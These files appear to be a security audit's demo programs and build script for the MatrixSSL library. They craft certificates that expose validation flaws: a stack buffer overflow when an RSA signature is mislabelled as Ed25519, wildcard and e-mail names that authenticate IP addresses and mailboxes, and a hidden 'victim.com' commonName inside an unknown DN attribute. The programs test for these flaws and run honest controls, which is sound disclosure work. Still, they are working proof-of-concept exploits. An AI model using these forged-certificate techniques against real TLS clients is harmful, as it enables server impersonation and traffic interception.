    if (psX509ParseCertFile(NULL, CERTDIR "/d2_chain.pem", &chain, 0) < 0 ||
        psX509ParseCertFile(NULL, CERTDIR "/d1_root.pem", &trusted, 0) < 0)
    {
        printf("   cannot parse demo certificates\n");
        return 2;
    }
    printf("   parsed: leaf sigAlgorithm=%d (OID_ED25519_KEY_ALG=%d) "
        "signatureLen=%d tbsCertLen=%d, issuer key type=%d (PS_RSA=%d)\n",
        (int) chain->sigAlgorithm, (int) OID_ED25519_KEY_ALG,
        (int) chain->signatureLen, (int) chain->tbsCertLen,
        (int) chain->next->publicKey.type, (int) PS_RSA);
    fflush(stdout);
    rc = matrixValidateCerts(NULL, chain, trusted, NULL, &found, NULL, NULL);
    printf("   matrixValidateCerts returned %d\n", (int) rc);
    print_chain_status(chain);
    return 0;
}

static int child_tls13(void)
{
    sslKeys_t *ck, *sk;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1] = { v_tls_1_3 };
    psX509Cert_t *extra = NULL;
    int ok;

    if (matrixSslNewKeys(&ck, NULL) < 0 ||
        matrixSslLoadRsaKeys(ck, NULL, NULL, NULL, CERTDIR "/d1_root.pem") < 0)
    {
        printf("   client key load failed\n");
        return 2;
    }
    if (matrixSslNewKeys(&sk, NULL) < 0 ||
        matrixSslLoadEcKeys(sk, CERTDIR "/d2_leaf.pem", CERTDIR "/d2_leaf.key",
            NULL, NULL) < 0)
    {
        printf("   attacker server key load failed\n");
        return 2;
    }
    if (psX509ParseCertFile(NULL, CERTDIR "/d2_evilca.pem", &extra,
            CERT_STORE_UNPARSED_BUFFER) < 0)
    {
        return 2;
    }
    sk->identity->cert->next = extra;
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, NULL, "localhost",
            NULL, NULL, &co) < 0)
    {
        printf("   session creation failed\n");
        return 2;
    }
    printf("   TLS 1.3 client (trust={Good Root CA}) connecting to the "
        "attacker's server...\n");
    fflush(stdout);
    ok = run_handshake(cli, srv);
    printf("   handshake %s\n", ok ? "COMPLETED" : "failed");
    return 0;
}

static int run_child(const char *label, int (*fn)(void))
{
    pid_t pid;
    int st = 0;

    printf("-- %s\n", label);
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        int r = fn();
        fflush(stdout);
        _exit(r);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("VIOLATION: %s: process killed by signal %d (%s) inside "
            "certificate-chain validation: psVerifySig let the RSA "
            "un-padding write the %s into its 64-byte stack buffer\n",
            label, WTERMSIG(st), strsignal(WTERMSIG(st)),
            "222-byte TBSCertificate");
        return 1;
    }
    printf("   child exited normally with %d\n", WEXITSTATUS(st));
    return 0;
}

int main(void)
{
    int v = 0, controlsFailed = 0;

    g_trace = (getenv("TRACE") != NULL);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    v += run_child("matrixValidateCerts([localhost(sigAlg Ed25519, RSA blob) "
            "<- Evil CA2(RSA-4096)], trust={Good Root CA})", child_validate);
    v += run_child("TLS 1.3 client receiving that chain from a server",
            child_tls13);
    controlsFailed += !control_validate("honest Ed25519-signed leaf under "
            "its Ed25519 CA", CERTDIR "/ok_ed_leaf.pem",
            CERTDIR "/ok_ed_ca.pem");
    controlsFailed += !control_validate("honest RSA chain",
            CERTDIR "/ok_chain.pem", CERTDIR "/d1_root.pem");
    controlsFailed += !control_connect("TLS 1.3, honest RSA chain",
            CERTDIR "/d1_root.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_3, NULL);
    controlsFailed += !control_connect("TLS 1.2, honest RSA chain",
            CERTDIR "/d1_root.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_2, NULL);
    matrixSslClose();
    if (controlsFailed)
    {
        printf("CONTROL FAILED: an honest chain was refused\n");
        return 3;
    }
    if (v)
    {
        return 1;
    }
    printf("OK: no violation\n");
    return 0;
}
