import sys
def rd(b, i):
    tag = b[i]; i += 1
    l = b[i]; i += 1
    if l & 0x80:
        n = l & 0x7f; l = int.from_bytes(b[i:i+n], 'big'); i += n
    return tag, l, i
def der_len(n):
    if n < 128: return bytes([n])
    b = n.to_bytes((n.bit_length()+7)//8, 'big')
    return bytes([0x80|len(b)]) + b
key = open(sys.argv[1],'rb').read()
t, l, i = rd(key, 0)
ints = []
while i < len(key):
    t, l, j = rd(key, i)
    ints.append(int.from_bytes(key[j:j+l], 'big')); i = j + l
ver, n, e, d = ints[0:4]
k = (n.bit_length()+7)//8
tbs = open(sys.argv[2],'rb').read()
em = b'\x00\x01' + b'\xff'*(k-3-len(tbs)) + b'\x00' + tbs
sig = pow(int.from_bytes(em,'big'), d, n).to_bytes(k,'big')
assert pow(int.from_bytes(sig,'big'), e, n) == int.from_bytes(em,'big')
alg = bytes.fromhex('300506032b6570')   # AlgorithmIdentifier { id-Ed25519 }
bits = b'\x03' + der_len(len(sig)+1) + b'\x00' + sig
body = tbs + alg + bits
open(sys.argv[3],'wb').write(b'\x30' + der_len(len(body)) + body)
