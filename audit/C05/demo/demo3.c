/*
    demo3: the expected name is an IPv4 literal (or an e-mail address) and
    is matched, as if it were a host name, against dNSName entries and the
    subject CN - including the DNS wildcard rule
    (matrixssl/matrixssl.c: matrixValidateCertsExt case GN_DNS / CN fallback
    -> wildcardMatch()).

    With the default NAME_TYPE_ANY (the only mode reachable through
    matrixSslNewClientSession unless the application fills
    options->validateCertsOpts) wildcardMatch() never asks whether the
    expected name is a DNS name.  "*.2.3.4" therefore stands for the first
    OCTET of the address 1.2.3.4 / 77.2.3.4 / 250.2.3.4 ..., a dNSName
    "1.2.3.4" (wrong kind) authenticates the address, and a dNSName
    "ADMIN@victim.com" authenticates the mailbox admin@victim.com although
    the same string as an rfc822Name is (correctly) refused because the
    local part differs in case.  None of these certificates carries an
    iPAddress / rfc822Name entry.
*/
#include "common.h"

static int bad = 0;

static void expect_reject(const char *what, const buf_t *cert,
    const char *name, int alsoHs)
{
    uint32_t ff;
    int rc, hs12 = -1, hs13 = -1;

    printf("-- %s\n", what);
    rc = validate(cert, name, NAME_TYPE_ANY, &ff, 1);
    if (alsoHs)
    {
        hs12 = handshake(cert, name, 0, 1);
        hs13 = handshake(cert, name, 1, 1);
    }
    if (rc == 0)
    {
        printf("VIOLATION: %s: expectedName \"%s\" accepted "
            "(matrixValidateCertsExt rc=0", what, name);
        if (alsoHs)
        {
            printf(", TLS1.2 handshake %s, TLS1.3 handshake %s",
                hs12 ? "completed" : "failed", hs13 ? "completed" : "failed");
        }
        printf(")\n");
        bad = 1;
    }
}

int main(void)
{
    buf_t subj = { { 0 }, 0 }, subjW = { { 0 }, 0 }, san = { { 0 }, 0 };
    buf_t cert = { { 0 }, 0 };
    uint32_t ff;
    int rc;

    demo_open();
    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x0C, "attacker.example", 16);

    /* control: a real iPAddress entry works and a different one does not */
    san.n = 0;
    tlv(&san, 0x87, "\x09\x09\x09\x09", 4);
    mkcert(&subj, &san, &cert);
    printf("-- control: SAN iPAddress 9.9.9.9\n");
    if (validate(&cert, "9.9.9.9", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "1.2.3.4", NAME_TYPE_ANY, &ff, 1) == 0)
    {
        printf("control failed\n");
        return 2;
    }

    /* honest controls that must keep working */
    san.n = 0;
    tlv(&san, 0x82, "*.good.example", 14);
    tlv(&san, 0x87, "\x0a\x00\x00\x01", 4);
    tlv(&san, 0x81, "admin@good.example", 18);
    mkcert(&subj, &san, &cert);
    printf("-- honest control: SAN = { dNSName *.good.example, iPAddress "
        "10.0.0.1, rfc822Name admin@good.example }\n");
    if (validate(&cert, "www.good.example", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "10.0.0.1", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "admin@good.example", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "a.b.good.example", NAME_TYPE_ANY, &ff, 1) == 0 ||
        !handshake(&cert, "www.good.example", 0, 1) ||
        !handshake(&cert, "10.0.0.1", 1, 1))
    {
        printf("honest control failed\n");
        return 2;
    }
    /* a device certificate without SAN whose CN is its address (exact,
       non-wildcard CN fallback) keeps working */
    rdn(&subjW, OID_CN, sizeof(OID_CN), 0x0C, "10.0.0.1", 8);
    mkcert(&subjW, NULL, &cert);
    printf("-- honest control: no SAN, CN = \"10.0.0.1\"\n");
    if (validate(&cert, "10.0.0.1", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "10.0.0.2", NAME_TYPE_ANY, &ff, 1) == 0)
    {
        printf("honest control failed\n");
        return 2;
    }
    subjW.n = 0;

    /* (a) wildcard dNSName vs. IPv4 literal */
    san.n = 0;
    tlv(&san, 0x82, "*.2.3.4", 7);
    mkcert(&subj, &san, &cert);
    expect_reject("SAN = { dNSName \"*.2.3.4\" }, no iPAddress entry", &cert,
        "1.2.3.4", 1);
    expect_reject("same certificate, another address", &cert, "250.2.3.4", 0);

    /* (b) wildcard CN, no SAN */
    rdn(&subjW, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subjW, OID_CN, sizeof(OID_CN), 0x0C, "*.2.3.4", 7);
    mkcert(&subjW, NULL, &cert);
    expect_reject("no SAN, CN = \"*.2.3.4\"", &cert, "1.2.3.4", 0);

    /* (c) literal dNSName of the wrong kind */
    san.n = 0;
    tlv(&san, 0x82, "1.2.3.4", 7);
    mkcert(&subj, &san, &cert);
    expect_reject("SAN = { dNSName \"1.2.3.4\" } (text, not an iPAddress)",
        &cert, "1.2.3.4", 0);

    /* (d) e-mail: as rfc822Name the case of the local part matters ... */
    san.n = 0;
    tlv(&san, 0x81, "ADMIN@victim.com", 16);
    mkcert(&subj, &san, &cert);
    printf("-- control: SAN = { rfc822Name \"ADMIN@victim.com\" }\n");
    rc = validate(&cert, "admin@victim.com", NAME_TYPE_ANY, &ff, 1);
    printf("    (rfc822Name with different local-part case: %s)\n",
        rc == 0 ? "accepted" : "refused");
    /* ... but the same bytes in a dNSName are accepted */
    san.n = 0;
    tlv(&san, 0x82, "ADMIN@victim.com", 16);
    mkcert(&subj, &san, &cert);
    if (rc != 0)
    {
        expect_reject("SAN = { dNSName \"ADMIN@victim.com\" }, no rfc822Name",
            &cert, "admin@victim.com", 0);
    }

    if (!bad)
    {
        printf("OK: IPv4-literal / e-mail expected names are only matched "
            "against entries of their own kind; host-name wildcards, "
            "iPAddress, rfc822Name and exact CN fallback still work\n");
    }
    return bad;
}
