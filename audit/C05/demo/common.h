/*
    Shared helpers for the C05 audit demos.

    - tiny DER builder / TLV walker
    - mkcert(): builds an X.509 v3 end-entity certificate with a caller
      supplied subject Name and subjectAltName content, re-using serial,
      issuer, validity and subjectPublicKeyInfo of testkeys/RSA/2048_RSA
      and signs it (sha256WithRSAEncryption) with the test CA key
      testkeys/RSA/2048_RSA_CA_KEY.pem using the library's own RSA code.
    - validate(): psX509ParseCert + matrixValidateCertsExt against the test CA
    - handshake(): in-memory TLS handshake, server presents the crafted
      certificate (private key testkeys/RSA/2048_RSA_KEY), client trusts the
      test CA and passes expectedName to matrixSslNewClientSession.

    The library is used unmodified.
*/
#ifndef C05_COMMON_H
#define C05_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#ifndef TOPDIR
# error "TOPDIR must be defined by build.sh"
#endif

typedef struct
{
    unsigned char b[8192];
    size_t n;
} buf_t;

static void bput(buf_t *o, const void *p, size_t n)
{
    if (o->n + n > sizeof(o->b))
    {
        fprintf(stderr, "buf overflow\n");
        exit(2);
    }
    memcpy(o->b + o->n, p, n);
    o->n += n;
}
static void bput1(buf_t *o, unsigned char c)
{
    bput(o, &c, 1);
}
/* DER definite length */
static void blen(buf_t *o, size_t n)
{
    if (n < 0x80)
    {
        bput1(o, (unsigned char) n);
    }
    else if (n < 0x100)
    {
        bput1(o, 0x81); bput1(o, (unsigned char) n);
    }
    else
    {
        bput1(o, 0x82); bput1(o, (unsigned char) (n >> 8));
        bput1(o, (unsigned char) n);
    }
}
/* single-byte-tag TLV */
static void tlv(buf_t *o, unsigned char tag, const void *v, size_t n)
{
    bput1(o, tag);
    blen(o, n);
    bput(o, v, n);
}
static void tlvb(buf_t *o, unsigned char tag, const buf_t *v)
{
    tlv(o, tag, v->b, v->n);
}

/* Walk one TLV (single byte tags, definite lengths). */
static int tlv_next(const unsigned char **pp, const unsigned char *end,
    const unsigned char **start, const unsigned char **val, size_t *vlen)
{
    const unsigned char *p = *pp;
    size_t l;

    if (end - p < 2)
    {
        return -1;
    }
    *start = p;
    p++;
    if (*p < 0x80)
    {
        l = *p++;
    }
    else if (*p == 0x81)
    {
        l = p[1]; p += 2;
    }
    else if (*p == 0x82)
    {
        l = (p[1] << 8) | p[2]; p += 3;
    }
    else
    {
        return -1;
    }
    if ((size_t) (end - p) < l)
    {
        return -1;
    }
    *val = p;
    *vlen = l;
    *pp = p + l;
    return 0;
}

/* One RDN: SET { SEQUENCE { OID, <strTag> value } } */
static void rdn(buf_t *o, const unsigned char *oid, size_t oidLen,
    unsigned char strTag, const void *v, size_t vlen)
{
    buf_t atv = { { 0 }, 0 }, seq = { { 0 }, 0 };

    tlv(&atv, 0x06, oid, oidLen);
    tlv(&atv, strTag, v, vlen);
    tlvb(&seq, 0x30, &atv);
    tlvb(o, 0x31, &seq);
}
static const unsigned char OID_CN[] = { 0x55, 0x04, 0x03 };
static const unsigned char OID_O[] = { 0x55, 0x04, 0x0A };

static psRsaKey_t g_caKey;
static int g_caKeyLoaded = 0;

static void demo_open(void)
{
    if (matrixSslOpen() < 0)
    {
        fprintf(stderr, "matrixSslOpen failed\n");
        exit(2);
    }
    if (psPkcs1ParsePrivFile(NULL, TOPDIR "/testkeys/RSA/2048_RSA_CA_KEY.pem",
            NULL, &g_caKey) < 0)
    {
        fprintf(stderr, "cannot load CA private key\n");
        exit(2);
    }
    g_caKeyLoaded = 1;
}

/*
    subjectRdns : concatenated RDN SETs (content of the subject Name SEQUENCE)
    sanContent  : content of the GeneralNames SEQUENCE, or NULL for no SAN
    out         : resulting signed certificate (DER)
*/
static void mkcert(const buf_t *subjectRdns, const buf_t *sanContent,
    buf_t *out)
{
    const unsigned char *p, *end, *st, *v, *certVal, *tbsVal;
    const unsigned char *child[8], *sigAlgStart = NULL;
    size_t childLen[8], vl, certLen, tbsLen, sigAlgLen = 0;
    int i, n = 0;
    buf_t tbs = { { 0 }, 0 }, exts = { { 0 }, 0 }, tmp = { { 0 }, 0 };
    buf_t tmp2 = { { 0 }, 0 }, cert = { { 0 }, 0 };
    unsigned char hash[32], sig[256 + 1];
    psSha256_t md;
    static const unsigned char bcExt[] = {
        0x30, 0x09, 0x06, 0x03, 0x55, 0x1D, 0x13, 0x04, 0x02, 0x30, 0x00
    };
    static const unsigned char sanOid[] = { 0x55, 0x1D, 0x11 };

    /* Walk the template certificate */
    p = RSA2048; end = RSA2048 + sizeof(RSA2048);
    if (tlv_next(&p, end, &st, &certVal, &certLen) < 0)
    {
        exit(2);
    }
    p = certVal; end = certVal + certLen;
    if (tlv_next(&p, end, &st, &tbsVal, &tbsLen) < 0)
    {
        exit(2);
    }
    /* signatureAlgorithm that follows the TBS */
    if (tlv_next(&p, end, &sigAlgStart, &v, &vl) < 0)
    {
        exit(2);
    }
    sigAlgLen = (size_t) (p - sigAlgStart);

    /* TBS children: [0]version serial sigalg issuer validity subject spki [3]ext */
    p = tbsVal; end = tbsVal + tbsLen;
    while (p < end && n < 8)
    {
        if (tlv_next(&p, end, &st, &v, &vl) < 0)
        {
            exit(2);
        }
        child[n] = st;
        childLen[n] = (size_t) (p - st);
        n++;
    }
    if (n != 8)
    {
        fprintf(stderr, "unexpected template layout (%d)\n", n);
        exit(2);
    }

    for (i = 0; i < 5; i++)
    {
        bput(&tbs, child[i], childLen[i]);  /* version..validity */
    }
    tlvb(&tbs, 0x30, subjectRdns);           /* subject */
    bput(&tbs, child[6], childLen[6]);       /* SPKI */

    /* extensions: every extension of the template (basicConstraints,
       keyUsage, extKeyUsage, SKI, AKI) except its subjectAltName, plus the
       caller's subjectAltName */
    {
        const unsigned char *ep, *eend, *es, *ev, *op, *os, *ov;
        size_t el, ol;

        ep = child[7]; eend = child[7] + childLen[7];
        if (tlv_next(&ep, eend, &es, &ev, &el) < 0)     /* [3] */
        {
            exit(2);
        }
        ep = ev; eend = ev + el;
        if (tlv_next(&ep, eend, &es, &ev, &el) < 0)     /* SEQUENCE OF */
        {
            exit(2);
        }
        ep = ev; eend = ev + el;
        while (ep < eend)
        {
            if (tlv_next(&ep, eend, &es, &ev, &el) < 0)
            {
                exit(2);
            }
            op = ev;
            if (tlv_next(&op, ev + el, &os, &ov, &ol) < 0)
            {
                exit(2);
            }
            if (ol == 3 && memcmp(ov, sanOid, 3) == 0)
            {
                continue;
            }
            bput(&exts, es, (size_t) (ep - es));
        }
    }
    (void) bcExt;
    if (sanContent)
    {
        tmp.n = 0;
        tlvb(&tmp, 0x30, sanContent);        /* GeneralNames */
        tmp2.n = 0;
        tlv(&tmp2, 0x06, sanOid, sizeof(sanOid));
        tlvb(&tmp2, 0x04, &tmp);             /* extnValue OCTET STRING */
        tlvb(&exts, 0x30, &tmp2);            /* Extension */
    }
    tmp.n = 0;
    tlvb(&tmp, 0x30, &exts);                 /* Extensions */
    tlvb(&tbs, 0xA3, &tmp);                  /* [3] EXPLICIT */

    tmp.n = 0;
    tlvb(&tmp, 0x30, &tbs);                  /* TBSCertificate */

    psSha256Init(&md);
    psSha256Update(&md, tmp.b, tmp.n);
    psSha256Final(&md, hash);
    sig[0] = 0;
    if (privRsaEncryptSignedElement(NULL, &g_caKey, hash, 32, sig + 1, 256,
            NULL) < 0)
    {
        fprintf(stderr, "signing failed\n");
        exit(2);
    }
    bput(&cert, tmp.b, tmp.n);
    bput(&cert, sigAlgStart, sigAlgLen);
    tlv(&cert, 0x03, sig, 257);
    out->n = 0;
    tlvb(out, 0x30, &cert);
}

static void dump_der(const char *path, const buf_t *c)
{
    FILE *f = fopen(path, "wb");

    if (f)
    {
        fwrite(c->b, 1, c->n, f);
        fclose(f);
    }
}

static void print_names(psX509Cert_t *c)
{
    x509GeneralName_t *n;

    printf("    library's view: CN=\"%s\"",
        c->subject.commonName ? c->subject.commonName : "(none)");
    for (n = c->extensions.san; n; n = n->next)
    {
        if (n->id == GN_DNS || n->id == GN_EMAIL || n->id == GN_URI)
        {
            printf(" SAN[%s]=\"%s\"", n->name, n->data);
        }
        else
        {
            printf(" SAN[%s](%u bytes)", n->name, (unsigned) n->dataLen);
        }
    }
    printf("\n");
}

/*
    Direct API: returns matrixValidateCertsExt rc (0 == authenticated for that
    name), -1000 if the certificate does not even parse.
*/
static int validate(const buf_t *certDer, const char *expectedName,
    expectedNameType_t nameType, uint32_t *failFlags, int verbose)
{
    psX509Cert_t *leaf = NULL, *ca = NULL, *found = NULL;
    matrixValidateCertsOptions_t opts;
    int32 rc;

    if (failFlags)
    {
        *failFlags = 0;
    }
    if (psX509ParseCert(NULL, RSA2048CA, sizeof(RSA2048CA), &ca, 0) < 0)
    {
        fprintf(stderr, "CA parse failed\n");
        exit(2);
    }
    rc = psX509ParseCert(NULL, certDer->b, (uint32) certDer->n, &leaf, 0);
    if (rc < 0)
    {
        if (verbose)
        {
            printf("    psX509ParseCert rejected the certificate (rc=%d)\n",
                (int) rc);
        }
        psX509FreeCert(leaf);
        psX509FreeCert(ca);
        return -1000;
    }
    if (verbose)
    {
        print_names(leaf);
    }
    memset(&opts, 0, sizeof(opts));
    opts.nameType = nameType;
    opts.flags = VCERTS_FLAG_VALIDATE_EXPECTED_GENERAL_NAME;
    rc = matrixValidateCertsExt(NULL, leaf, ca, (char *) expectedName, &found,
        NULL, NULL, &opts);
    if (failFlags)
    {
        *failFlags = leaf->authFailFlags;
    }
    if (verbose)
    {
        printf("    matrixValidateCertsExt(expectedName=\"%s\") rc=%d "
            "authFailFlags=0x%x%s\n", expectedName ? expectedName : "(null)",
            (int) rc, (unsigned) leaf->authFailFlags,
            (leaf->authFailFlags & PS_CERT_AUTH_FAIL_SUBJECT_FLAG) ?
            " (SUBJECT)" : "");
    }
    psX509FreeCert(leaf);
    psX509FreeCert(ca);
    return (int) rc;
}

/*
    In-memory handshake.  Returns 1 if both sides completed the handshake,
    0 otherwise; *alert receives the alert description the client raised.
*/
static int pump(ssl_t *from, ssl_t *to, int *done_to, int *err)
{
    unsigned char *out, *in, *pt;
    uint32 ptlen;
    int32 len, rc, moved = 0;

    while ((len = matrixSslGetOutdata(from, &out)) > 0)
    {
        int32 room = matrixSslGetReadbufOfSize(to, len, &in);

        if (room < len)
        {
            len = room;
        }
        if (len <= 0)
        {
            *err = 1;
            return moved;
        }
        memcpy(in, out, len);
        matrixSslSentData(from, len);
        moved += len;
        rc = matrixSslReceivedData(to, len, &pt, &ptlen);
        for (;; )
        {
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                *done_to = 1;
                break;
            }
            else if (rc == MATRIXSSL_REQUEST_SEND ||
                     rc == MATRIXSSL_REQUEST_RECV || rc == MATRIXSSL_SUCCESS)
            {
                break;
            }
            else if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                *err = 1;
                rc = matrixSslProcessedData(to, &pt, &ptlen);
                if (rc != MATRIXSSL_APP_DATA && rc != MATRIXSSL_RECEIVED_ALERT)
                {
                    break;
                }
            }
            else if (rc == MATRIXSSL_APP_DATA ||
                     rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                rc = matrixSslProcessedData(to, &pt, &ptlen);
            }
            else
            {
                *err = 1;   /* negative: fatal, an alert may be queued */
                break;
            }
        }
        if (*err)
        {
            break;
        }
    }
    return moved;
}

static int handshake(const buf_t *serverCert, const char *expectedName,
    int tls13, int verbose)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t sopts, copts;
    int32 rc;
    int cdone = 0, sdone = 0, cerr = 0, serr = 0, i, ok;
    psProtocolVersion_t v[1];

    if (matrixSslNewKeys(&skeys, NULL) < 0 || matrixSslNewKeys(&ckeys, NULL) < 0)
    {
        exit(2);
    }
    rc = matrixSslLoadRsaKeysMem(skeys, serverCert->b, (int32) serverCert->n,
        RSA2048KEY, sizeof(RSA2048KEY), NULL, 0);
    if (rc < 0)
    {
        if (verbose)
        {
            printf("    server could not load the crafted identity (rc=%d)\n",
                (int) rc);
        }
        matrixSslDeleteKeys(skeys); matrixSslDeleteKeys(ckeys);
        return 0;
    }
    rc = matrixSslLoadRsaKeysMem(ckeys, NULL, 0, NULL, 0, RSA2048CA,
        sizeof(RSA2048CA));
    if (rc < 0)
    {
        fprintf(stderr, "client CA load failed %d\n", (int) rc);
        exit(2);
    }
    memset(&sopts, 0, sizeof(sopts));
    memset(&copts, 0, sizeof(copts));
    v[0] = tls13 ? v_tls_1_3 : v_tls_1_2;
    matrixSslSessOptsSetServerTlsVersions(&sopts, v, 1);
    matrixSslSessOptsSetClientTlsVersions(&copts, v, 1);

    if (matrixSslNewServerSession(&srv, skeys, NULL, &sopts) < 0)
    {
        fprintf(stderr, "NewServerSession failed\n");
        exit(2);
    }
    rc = matrixSslNewClientSession(&cli, ckeys, NULL, NULL, 0, NULL,
        expectedName, NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        fprintf(stderr, "NewClientSession failed %d\n", (int) rc);
        exit(2);
    }
    for (i = 0; i < 20 && !(cdone && sdone) && !cerr && !serr; i++)
    {
        int m = 0;

        m += pump(cli, srv, &sdone, &serr);
        m += pump(srv, cli, &cdone, &cerr);
        if (m == 0)
        {
            break;
        }
    }
    /* TLS 1.3 client is complete once it has sent Finished */
    ok = (cdone || matrixSslHandshakeIsComplete(cli)) &&
         (sdone || matrixSslHandshakeIsComplete(srv)) && !cerr;
    if (verbose)
    {
        printf("    %s handshake, client expectedName=\"%s\": %s\n",
            tls13 ? "TLS 1.3" : "TLS 1.2", expectedName,
            ok ? "COMPLETED (server authenticated)" :
            "FAILED (client rejected the server)");
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    return ok;
}

#endif /* C05_COMMON_H */
