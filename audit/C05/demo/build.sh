#!/bin/sh
# Builds all C05 audit demos against the static libraries of the worktree.
# Run `make -j8` at the worktree top level first.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include \
 -I$TOP/core/include/sfzcl -O1 -g -Wall -Wno-unused-function \
 -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DTOPDIR=\"$TOP\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
cd "$HERE"
for n in 1 2 3 4; do
    if [ -f demo$n.c ]; then
        cc $CFLAGS -o demo$n demo$n.c $LIBS
        echo "built demo$n"
    fi
done
