/*
    demo2: bytes nested INSIDE the value of an unrecognised subject DN
    attribute are parsed as a further RDN and become the subject commonName
    (crypto/keyformat/x509.c, psX509GetDNAttributes, "OIDs we are not
    parsing" branch), which the expected-name check then accepts through the
    CN fallback.

    Subject of the (well-formed DER) certificate, as any DER parser sees it:

        O  = Attacker Ltd
        CN = attacker.example
        1.3.6.1.4.1.99999.2 = [APPLICATION 33] <76 opaque bytes>

    The certificate has no subjectAltName.  psX509GetDNAttributes() skips the
    value of an attribute it does not know with "p += arcLen + 1" (one byte
    for the value's tag), then reads a length and skips that many bytes; it
    does not use the length of the enclosing AttributeTypeAndValue SEQUENCE
    or SET.  With the two-octet identifier 5F 21 it takes 0x21 as the length,
    lands 33 bytes later in the middle of the opaque value and continues
    parsing RDNs there: SET { SEQUENCE { OID 2.5.4.3, UTF8String
    "victim.com" } }.  The last commonName wins, so subject.commonName is
    "victim.com".
*/
#include "common.h"

static const unsigned char privOid[] = {
    0x2B, 0x06, 0x01, 0x04, 0x01, 0x86, 0x8D, 0x1F, 0x02
};

int main(void)
{
    buf_t subj = { { 0 }, 0 }, cert = { { 0 }, 0 };
    buf_t content = { { 0 }, 0 }, atv = { { 0 }, 0 }, seq = { { 0 }, 0 };
    uint32_t ff;
    int i, rcVictim, rcOther, rcOwn, hsCtl, hs12, hs13;

    demo_open();

    /* honest control: CN followed by an unknown attribute with an ordinary
       UTF8String value, and one placed before the CN */
    rdn(&subj, privOid, sizeof(privOid), 0x0C, "before", 6);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x0C, "good.example", 12);
    rdn(&subj, privOid, sizeof(privOid), 0x0C, "some value", 10);
    mkcert(&subj, NULL, &cert);
    printf("== honest control: subject = { private attr, CN=good.example, "
        "private attr }, no SAN ==\n");
    if (validate(&cert, "good.example", NAME_TYPE_ANY, &ff, 1) != 0 ||
        validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1) == 0 ||
        !handshake(&cert, "good.example", 0, 1) ||
        !handshake(&cert, "good.example", 1, 1))
    {
        printf("honest control failed\n");
        return 2;
    }
    subj.n = 0;
    printf("== crafted subject ==\n");

    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x0C, "attacker.example", 16);

    /* opaque content: 32 filler bytes, then what looks like an RDN */
    for (i = 0; i < 32; i++)
    {
        bput1(&content, 'x');
    }
    rdn(&content, OID_CN, sizeof(OID_CN), 0x0C, "victim.com", 10);

    tlv(&atv, 0x06, privOid, sizeof(privOid));
    bput1(&atv, 0x5F);              /* [APPLICATION 33] primitive */
    bput1(&atv, 0x21);
    blen(&atv, content.n);          /* one length octet (< 0x80) */
    bput(&atv, content.b, content.n);
    tlvb(&seq, 0x30, &atv);
    tlvb(&subj, 0x31, &seq);

    mkcert(&subj, NULL, &cert);
    dump_der("demo2_cert.der", &cert);

    rcVictim = validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1);
    rcOther = validate(&cert, "other.com", NAME_TYPE_ANY, &ff, 1);
    rcOwn = validate(&cert, "attacker.example", NAME_TYPE_ANY, &ff, 1);
    hsCtl = handshake(&cert, "other.com", 0, 1);
    hs12 = handshake(&cert, "victim.com", 0, 1);
    hs13 = handshake(&cert, "victim.com", 1, 1);

    if (rcOther >= 0 || hsCtl)
    {
        printf("control failed: name check is not active?\n");
        return 2;
    }
    if (rcVictim == 0)
    {
        printf("VIOLATION: certificate with subject CN=attacker.example and "
            "no subjectAltName authenticates as \"victim.com\" (a name that "
            "only occurs inside the opaque value of a private DN attribute); "
            "matrixValidateCertsExt rc=0, its real CN now gives rc=%d; "
            "TLS1.2 handshake %s, TLS1.3 handshake %s\n", rcOwn,
            hs12 ? "completed" : "failed", hs13 ? "completed" : "failed");
        return 1;
    }
    printf("OK: hidden name refused (rc=%d); the certificate's real CN "
        "\"attacker.example\" gives rc=%d; honest certificate with unknown "
        "DN attributes still authenticates\n", rcVictim, rcOwn);
    return 0;
}
